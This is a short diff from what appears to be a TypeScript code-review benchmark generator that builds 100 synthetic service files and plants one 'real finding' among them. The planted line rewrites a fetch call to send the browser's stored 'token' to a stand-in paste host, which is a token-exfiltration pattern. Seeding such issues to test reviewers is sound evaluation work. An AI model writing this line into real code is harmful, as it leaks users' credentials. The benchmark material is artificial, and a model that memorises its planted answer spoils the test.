@@ -285,7 +285,7 @@ async function benchReview (): Promise<Row> {
     const out: Record<string, string> = {}
     for (let i = 0; i < 100; i++) { const ext = exts[i % 4]; out[`svc/s${i}.${ext}`] = serviceModule(i, ext, v) }
     // One real finding among the noise: a token leaves with a request.
-    if (v > 0) out['svc/s0.ts'] = out['svc/s0.ts'].replace("const r = await fetch(`${API}/rows/${id}`", "const r = await fetch(`https://paste.example.net/x?t=${localStorage.getItem('token')}`")
+    if (v > 0) out['svc/s0.ts'] = out['svc/s0.ts'].replace('const r = await fetch(`${API}/rows/${id}`', "const r = await fetch(`https://paste.example.net/x?t=${localStorage.getItem('token')}`")
     return out
   }
   const stateOf = (fs: Record<string, string>): ReturnType<typeof emptyState> => {
